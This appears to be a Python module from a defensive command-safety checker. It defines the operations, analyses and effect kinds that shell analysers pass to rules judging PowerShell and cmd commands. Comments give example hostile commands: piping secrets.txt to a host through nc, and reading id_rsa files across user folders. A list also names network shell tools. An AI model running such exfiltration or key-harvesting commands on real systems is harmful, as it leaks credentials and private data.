"""The values shell analysers hand to the effect rules (issue 18): operations, effects, analyses.

An analyser (`powershell.py`, `cmd.py`) turns command text into `Operation`s — one per command
it could resolve — and says where it could not (`Analysis.dynamic`) or where the grammar gave
up (`Analysis.failed`). `effects.py` turns each operation, and each structured tool call, into
`Effect`s; `judge.py` judges an effect by what it does to which place.

Names are canonical lower case so rules compare one spelling:
- PowerShell cmdlet: its full name (`remove-item`; aliases and module qualifiers resolved);
- program: its base name without extension (`net`, `reg`, `rundll32`);
- .NET static call: `[type]::method` with the full type (`system.io.file::delete`);
- COM call: `com:<progid>.<method>` (`com:scripting.filesystemobject.deletefolder`).
- redirection (`> file`, `>> file`, `2> file`, `Out-File` is a cmdlet): `<redirect>` with args `(target,)`;
- a program started by its path (`& \\\\host\\share\\x.exe`, `& C:\\t\\x.exe`, `.\\x.exe`): `<run>` with args
  `(path,)`, beside the program's own operation, whose name keeps only the base name (the judge weighs where it
  came from, and what it is: a document opens in its program, S-RULE-164).
Parameters carry their full canonical name without the dash (`recurse`, `path`); a switch is
`"true"` (or `"false"` for `-Switch:$false`). A value the analyser could not fold to a constant
is `None` — never a guess.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from enum import StrEnum
from typing import Literal, TypeAlias

Value: TypeAlias = str | None  # None: not constant after folding
RUN_PATH = "<run>"  # the operation of a program started by a UNC path (module docstring)
# The operation of a file given on a network program's input (`nc host 4444 < secrets.txt` in cmd): its content
# goes to the other end of the connection (S-RULE-158). Programs in `NETWORK_SENDERS`.
SEND_PATH = "<send>"
NETWORK_SENDERS = frozenset({"nc", "ncat", "netcat", "nc64", "socat", "ssh", "plink", "telnet"})
# The operation of files read in every folder below a root (`for /r C:\Users %f in (id_rsa) do type %f`): args are
# the root and the name pattern (S-RULE-162).
TREE_READ = "<tree-read>"
UNC_STARTS = ("\\\\", "//")  # how a UNC path is written
Shell: TypeAlias = Literal["powershell", "cmd", "program", "dotnet", "com"]


@dataclass(frozen=True, slots=True)
class Operation:
    """One resolved invocation.

    Attributes:
        shell: which world the name lives in (a cmdlet, a program, a .NET or COM method).
        name: canonical lower-case name (see the module docstring); never None — an operation
            whose name is not constant is reported in `Analysis.dynamic` instead.
        params: named parameters, canonical name → value, in source order.
        args: positional arguments (for a program: its argv after the name), in order.
        text: the source text of this invocation (shortened), for reasons and the audit.
        depth: nesting level (0 = the command as given; 1 = inside `cmd /c`, `-EncodedCommand`, …).
        input_from: for an operation that receives pipeline input (`… | Remove-Item`), the
            canonical name of the command before it in the pipeline (`get-childitem`), `""` when
            that command's name is not constant; None when nothing is piped in.
    """

    shell: Shell
    name: str
    params: tuple[tuple[str, Value], ...] = ()
    args: tuple[Value, ...] = ()
    text: str = ""
    depth: int = 0
    input_from: str | None = None

    def param(self, name: str) -> Value:
        """The value of parameter `name` (last one wins, as in PowerShell), or None if absent."""
        found: Value = None
        for key, value in self.params:
            if key == name:
                found = value
        return found

    def has(self, name: str) -> bool:
        """Whether parameter `name` was given at all (even with a non-constant value)."""
        return any(key == name for key, _ in self.params)

    def switch(self, name: str) -> bool:
        """Whether switch `name` is on (`-Recurse`, `-Recurse:$true`); a dynamic value counts as on."""
        if not self.has(name):
            return False
        value = self.param(name)
        return value is None or value.lower() not in ("false", "$false", "0")


@dataclass(frozen=True, slots=True)
class Analysis:
    """What an analyser made of one command text.

    Attributes:
        operations: every invocation it resolved, nested ones included.
        dynamic: one plain sentence per invocation whose name or decisive target stayed
            non-constant (`& $x`, `iex $y`, `Get-Command R?move-*`); the rules ask a person.
        failed: why the text could not be analysed (grammar error, too large, too deep), or
            None. A failure is never "no match": the caller falls back to the text rules.
    """

    operations: tuple[Operation, ...] = ()
    dynamic: tuple[str, ...] = ()
    failed: str | None = None


class EffectKind(StrEnum):
    """What an operation does, whatever spelled it."""

    DELETE = "delete"  # one file/key/value
    DELETE_RECURSIVE = "delete-recursive"
    MOVE = "move"  # moves or renames the target away
    WRITE = "write"  # creates or overwrites a file (content or attributes/ACL)
    REGISTRY_SET = "registry-set"
    REGISTRY_DELETE = "registry-delete"
    READ = "read"  # reads a file or key (judged only for credential stores)
    CREDENTIAL_ACCESS = "credential-access"  # dumps or exports secrets whatever the target
    ACCOUNT_CHANGE = "account-change"  # users, groups, privileges
    SECURITY_WEAKENING = "security-weakening"  # Defender, firewall, UAC, execution policy, audit policy
    PERSISTENCE = "persistence"  # services, scheduled tasks, Run keys, WMI subscriptions
    LOG_CLEAR = "log-clear"
    DOWNLOAD_EXECUTE = "download-execute"
    EXECUTE = "execute"  # starts a program or script given by value
    KILL = "kill"
    KILL_FORCED = "kill-forced"
    KILL_ALL = "kill-all"
    DISK_DESTROY = "disk-destroy"  # format, diskpart clean, cipher /w, vssadmin delete, bcdedit
    POWER = "power"  # shutdown, restart, logoff
    UPLOAD = "upload"  # sends a local file (the target) to another machine
    NETWORK_CHANGE = "network-change"  # adapters, DNS, routes, proxies, port forwarding
    DEVICE_CHANGE = "device-change"  # hardware devices disabled or removed, drivers deleted
    DISK_LOCK = "disk-lock"  # a drive encrypted, locked or given new keys (BitLocker): unreadable without the key
    EXTERNAL_DELETE = "external-delete"  # data deleted elsewhere: a cloud, a cluster, a repository host, a database


@dataclass(frozen=True, slots=True)
class Effect:
    """One effect on one target.

    Attributes:
        kind: what happens.
        target: the path, registry key (`HKLM\\…`), process name or other object as written
            (not yet canonicalised: `places.py` does that), or None when the effect has no
            single target or the target is not constant.
        detail: a short plain phrase for the reason (`"Remove-Item -Recurse"`, `"net user /add"`).
        value_name: for registry effects, the value name (`UseLogonCredential`), else None.
        data: for registry sets, the data written, else None.
    """

    kind: EffectKind
    target: str | None = None
    detail: str = ""
    value_name: str | None = None
    data: str | None = None
    extra: tuple[tuple[str, str], ...] = field(default=())
